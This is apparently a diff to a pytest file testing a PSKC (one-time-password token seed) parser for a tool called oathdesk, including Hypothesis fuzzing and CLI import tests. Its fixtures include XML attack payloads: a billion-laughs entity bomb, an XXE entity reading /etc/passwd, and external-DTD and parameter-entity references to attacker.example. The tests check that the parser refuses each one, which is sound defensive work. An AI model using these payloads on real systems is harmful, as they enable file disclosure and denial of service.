@@ -3,34 +3,48 @@
 from __future__ import annotations
 
 import io
+import time
 from pathlib import Path
 
 import pskc
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
-from oathdesk.formats.pskc import TOTP_URN, parse_pskc
+from oathdesk.formats.problems import Code
+from oathdesk.formats.pskc import HOTP_URN, TOTP_URN, parse_pskc
 from tests.conftest import RunCli
+from tests.formats.helpers import assert_no_secret, assert_well_formed
 
 SEEDS = {"60234567": bytes(range(20)), "60234568": bytes(range(20, 40))}
 PSK = bytes(range(16))
+PASSWORD = "vendor passphrase"
 
 
-def make_pskc(protection: str, *, algorithm: str = TOTP_URN) -> bytes:
+def make_pskc(
+    protection: str = "plain",
+    *,
+    algorithm: str | None = TOTP_URN,
+    suite: str | None = None,
+    seeds: dict[str, bytes] | None = None,
+    serial: bool = True,
+) -> bytes:
     container = pskc.PSKC()
-    for serial, secret in SEEDS.items():
+    for number, (serial_no, secret) in enumerate((seeds or SEEDS).items()):
         key = container.add_key(
-            id=serial,
-            serial=serial,
+            id=serial_no,
+            serial=serial_no if serial else None,
             secret=secret,
             algorithm=algorithm,
             manufacturer="Token2",
             model="C202",
         )
-        key.time_interval = 30
+        key.time_interval = 30 if number == 0 else 60
         key.response_length = 6
-        key.key_userid = f"user{serial[-1]}@contoso.com"
+        key.algorithm_suite = suite
+        key.key_userid = f"user{serial_no[-1]}@Contoso.com"
     if protection == "pbkdf2":
-        container.encryption.setup_pbkdf2("vendor passphrase", iterations=1000)
+        container.encryption.setup_pbkdf2(PASSWORD, iterations=1000)
     elif protection == "psk":
         container.encryption.setup_preshared_key(key=PSK)
     buffer = io.BytesIO()
@@ -38,50 +52,177 @@ def make_pskc(protection: str, *, algorithm: str = TOTP_URN) -> bytes:
     return buffer.getvalue()
 
 
+def key_line(data: bytes, index: int) -> int:
+    """The line of the index-th <pskc:Key ...> element, found independently of the parser."""
+    lines = [n for n, text in enumerate(data.decode().splitlines(), 1) if "<pskc:Key " in text]
+    return lines[index]
+
+
 @pytest.mark.parametrize(
-    ("protection", "kwargs"),
-    [("plain", {}), ("pbkdf2", {"password": "vendor passphrase"}), ("psk", {"psk": PSK})],
+    ("protection", "secrets"),
+    [("plain", {}), ("pbkdf2", {"password": PASSWORD}), ("psk", {"psk": PSK})],
 )
-def test_each_protection(protection: str, kwargs: dict[str, object]) -> None:
-    data = make_pskc(protection)
+def test_each_protection(protection: str, secrets: dict[str, object], tmp_path: Path) -> None:
+    path = tmp_path / f"order-{protection}.pskcxml"
+    path.write_bytes(make_pskc(protection))
+    data = path.read_bytes()
     if protection != "plain":
         for seed in SEEDS.values():
-            assert seed not in data
-    result = parse_pskc(data, **kwargs)  # type: ignore[arg-type]
+            assert seed.hex() not in data.decode()
+    result = parse_pskc(data, **secrets)  # type: ignore[arg-type]
     assert result.problems == []
-    assert {r.serial: r.secret for r in result.records} == SEEDS
+    assert [(r.serial, r.secret) for r in result.records] == list(SEEDS.items())
     assert [r.upn for r in result.records] == ["user7@contoso.com", "user8@contoso.com"]
-    assert all(r.period == 30 and r.digits == 6 for r in result.records)
+    assert [(r.period, r.digits, r.algorithm) for r in result.records] == [
+        (30, 6, "sha1"),
+        (60, 6, "sha1"),
+    ]
+    assert [(r.manufacturer, r.model) for r in result.records] == [("Token2", "C202")] * 2
+    assert [r.line for r in result.records] == [key_line(data, 0), key_line(data, 1)]
+    assert_no_secret([repr(result)], SEEDS.values())
 
 
-def test_wrong_or_missing_password() -> None:
-    data = make_pskc("pbkdf2")
-    missing = parse_pskc(data)
-    assert "the file is encrypted" in missing.problems[0].message
-    wrong = parse_pskc(data, password="not it")
-    assert wrong.records == []
-    assert "does not" in wrong.problems[0].message
-
-
-def test_hotp_refused() -> None:
-    result = parse_pskc(make_pskc("plain", algorithm="urn:ietf:params:xml:ns:keyprov:pskc:hotp"))
+@pytest.mark.parametrize(
+    ("protection", "given", "fix"),
+    [
+        ("pbkdf2", {}, "--password-stdin"),
+        ("psk", {}, "--psk-file"),
+        ("pbkdf2", {"psk": PSK}, "--password-stdin"),
+    ],
+)
+def test_a_protected_file_needs_its_password_or_key(
+    protection: str, given: dict[str, object], fix: str
+) -> None:
+    result = parse_pskc(make_pskc(protection), **given)  # type: ignore[arg-type]
+    assert [(p.line, p.code) for p in result.problems] == [(0, Code.ENCRYPTED)]
+    assert fix in result.problems[0].fix
     assert result.records == []
-    assert all("HOTP" in p.message for p in result.problems)
+
+
+@pytest.mark.parametrize(
+    ("protection", "wrong", "what"),
+    [
+        ("pbkdf2", {"password": "not it"}, "password"),
+        ("psk", {"psk": bytes(16)}, "pre-shared key"),
+    ],
+)
+def test_a_wrong_password_or_key_is_one_clear_problem(
+    protection: str, wrong: dict[str, object], what: str
+) -> None:
+    result = parse_pskc(make_pskc(protection), **wrong)  # type: ignore[arg-type]
+    assert result.records == []
+    assert [(p.line, p.code) for p in result.problems] == [(0, Code.WRONG_PASSWORD)]
+    assert result.problems[0].message == f"the {what} does not open this file"
+    assert_well_formed(result.problems)
+
+
+def test_hotp_keys_are_refused_each_with_its_line() -> None:
+    data = make_pskc(algorithm=HOTP_URN)
+    result = parse_pskc(data)
+    assert result.records == []
+    assert [(p.line, p.column, p.code) for p in result.problems] == [
+        (key_line(data, 0), "Algorithm", Code.NOT_TOTP),
+        (key_line(data, 1), "Algorithm", Code.NOT_TOTP),
+    ]
+    assert "key 60234567 is HOTP" in result.problems[0].message
+
+
+@pytest.mark.parametrize(
+    ("suite", "algorithm"),
+    [(None, "sha1"), ("HMAC-SHA1", "sha1"), ("HMAC-SHA256", "sha256"), ("SHA512", "sha512")],
+)
+def test_hash_suites(suite: str | None, algorithm: str) -> None:
+    result = parse_pskc(make_pskc(suite=suite))
+    assert {r.algorithm for r in result.records} == {algorithm}
+
+
+def test_missing_parts_and_an_unknown_hash() -> None:
+    no_serial = parse_pskc(make_pskc(serial=False))
+    assert {(p.column, p.code) for p in no_serial.problems} == {("SerialNo", Code.SERIAL_EMPTY)}
+    md5 = parse_pskc(make_pskc(suite="HMAC-MD5"))
+    assert {(p.column, p.code) for p in md5.problems} == {("Suite", Code.HASH_UNSUPPORTED)}
+    twice = parse_pskc(make_pskc(seeds={"1": bytes(20), "2": bytes(20)}))
+    assert [(p.column, p.code) for p in twice.problems] == [("Secret", Code.SECRET_DUPLICATE)]
+    no_algorithm = parse_pskc(make_pskc(algorithm=None))  # but a time interval: TOTP
+    assert no_algorithm.problems == []
+    assert_well_formed(no_serial.problems + md5.problems + twice.problems)
+
+
+def test_a_key_without_a_secret() -> None:
+    data = make_pskc().replace(b"<pskc:Secret>", b"<pskc:Nothing>")
+    data = data.replace(b"</pskc:Secret>", b"</pskc:Nothing>")
+    result = parse_pskc(data)
+    assert {(p.column, p.code) for p in result.problems} == {("Secret", Code.SECRET_EMPTY)}
 
 
 CONTAINER = b'<KeyContainer xmlns="urn:ietf:params:xml:ns:keyprov:pskc" Version="1.0">'
-BOMB = b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>'
-XXE = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+LAUGHS = b"".join(
+    b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1)) * 10 if n else b"lol") for n in range(10)
+)
+BOMB = b"<!DOCTYPE lolz [" + LAUGHS + b"]>" + CONTAINER + b"&lol9;</KeyContainer>"
+XXE = (
+    b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+    + CONTAINER
+    + b"<KeyPackage><Key><UserId>&xxe;</UserId></Key></KeyPackage></KeyContainer>"
+)
+EXTERNAL_DTD = (
+    b'<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">' + CONTAINER + b"</KeyContainer>"
+)
+PARAMETER_ENTITY = (
+    b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]>'
+    + CONTAINER
+    + b"</KeyContainer>"
+)
 
 
 @pytest.mark.parametrize(
     "payload",
-    [BOMB + CONTAINER + b"&lol2;</KeyContainer>", XXE + CONTAINER + b"&xxe;</KeyContainer>"],
+    [BOMB, XXE, EXTERNAL_DTD, PARAMETER_ENTITY],
+    ids=["billion-laughs", "xxe", "external-dtd", "parameter-entity"],
 )
-def test_xml_bombs_and_external_entities_refused(payload: bytes) -> None:
-    result = parse_pskc(payload)
+def test_xml_bombs_and_external_entities_are_refused(payload: bytes) -> None:
+    start = time.monotonic()
+    result = parse_pskc(b'<?xml version="1.0"?>\n' + payload)
+    assert time.monotonic() - start < 1  # nothing was expanded
     assert result.records == []
+    assert [(p.line, p.code) for p in result.problems] == [(0, Code.UNSAFE_XML)]
     assert "DTD or entities" in result.problems[0].message
+    assert "root:" not in result.problems[0].render("x")
+
+
+@pytest.mark.parametrize(
+    ("data", "code"),
+    [
+        (b"not xml at all", Code.NOT_PSKC),
+        (b"<html><body>hello</body></html>", Code.NOT_PSKC),
+        (make_pskc()[:-40], Code.NOT_PSKC),
+        (CONTAINER + b"</KeyContainer>", Code.NOT_PSKC),  # no keys
+    ],
+)
+def test_files_that_are_not_usable_pskc(data: bytes, code: Code) -> None:
+    result = parse_pskc(data)
+    assert [(p.line, p.code) for p in result.problems] == [(0, code)]
+    assert_well_formed(result.problems)
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.binary(max_size=300))
+def test_any_bytes_give_records_or_problems(data: bytes) -> None:
+    result = parse_pskc(data)
+    assert result.records or result.problems
+    assert_well_formed(result.problems)
+
+
+VALID = make_pskc("pbkdf2")
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.integers(0, len(VALID) - 1), st.integers(0, 255))
+def test_a_damaged_vendor_file_never_breaks_the_reader(position: int, byte: int) -> None:
+    damaged = VALID[:position] + bytes([byte]) + VALID[position + 1 :]
+    result = parse_pskc(damaged, password=PASSWORD)
+    assert result.records or result.problems
+    assert_well_formed(result.problems)
 
 
 def test_import_pskc_through_the_cli(
@@ -89,9 +230,7 @@ def test_import_pskc_through_the_cli(
 ) -> None:
     source = tmp_path / "order-4711.pskcxml"
     source.write_bytes(make_pskc("pbkdf2"))
-    done = cli(
-        "import", str(source), "--password-stdin", input="vendor passphrase\n", env=env_vault
-    )
+    done = cli("import", str(source), "--password-stdin", input=PASSWORD + "\n", env=env_vault)
     assert done.returncode == 0, done.stderr
     assert "imported 2 token(s)" in done.stdout
     listing = cli("token", "list", "--json", env=env_vault).stdout
